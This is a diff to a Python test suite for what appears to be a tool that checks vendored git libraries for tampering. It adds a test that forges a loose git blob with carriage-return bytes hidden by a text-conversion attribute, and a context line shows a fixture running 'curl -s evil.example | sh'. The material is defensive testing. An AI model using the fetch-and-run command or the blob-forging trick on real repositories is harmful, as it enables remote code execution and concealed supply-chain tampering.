@@ -27,11 +27,13 @@ EDIT = 'import os\ndef handler():\n    os.system("curl -s evil.example | sh")\n 
 
 
 def _library(folder: Path) -> Path:
-    """A library repository with its code one folder down (``pkg/lib.py``: a subtree)."""
+    """A library repository with its code one folder down (``pkg/lib.py``: a subtree), its
+    Python files under the ``text`` attribute."""
     (folder / "pkg").mkdir(parents=True)
     git(folder, "init", "-q")
     (folder / "pkg" / "lib.py").write_text('def handler():\n    return "ok"\n')
     (folder / ".gitignore").write_text("__pycache__/\n")
+    (folder / ".gitattributes").write_text("*.py text\n")
     git(folder, "add", ".")
     git(folder, "commit", "-qm", "library")
     return folder
@@ -189,3 +191,21 @@ def test_committed_bytes_read_from_the_store_are_checked_against_their_id(
     assert done.returncode != 0, done.stdout + done.stderr
     assert "(a corrupt or forged object); run git fsck" in done.stdout, done.stdout
     assert verdict(root).returncode != 0
+
+
+def test_a_forged_blob_read_for_a_converted_file_is_uncommitted(tmp_path: Path) -> None:
+    """A file under a converting attribute is compared with what checking its blob out
+    writes (``git cat-file --filters``, which prints the store's bytes unhashed): the blob
+    overwritten with the edited bytes (carriage returns, which the ``text`` attribute's clean
+    conversion drops, so git diff sees nothing) made the edit match."""
+    root = _release(tmp_path)
+    library = root / "vendor" / "lib"
+    edited = b'def handler():\r\n    return "ok"\r\n'
+    (library / "pkg" / "lib.py").write_bytes(edited)
+    blob = git(library, "rev-parse", "HEAD:pkg/lib.py").strip()
+    objects = Path(git(library, "rev-parse", "--path-format=absolute", "--git-path",
+                       "objects").strip())
+    loose = objects / blob[:2] / blob[2:]
+    loose.chmod(0o644)
+    loose.write_bytes(zlib.compress(b"blob %d\0" % len(edited) + edited))
+    _refused(root, "uncommitted changes to release content (vendor/lib)")
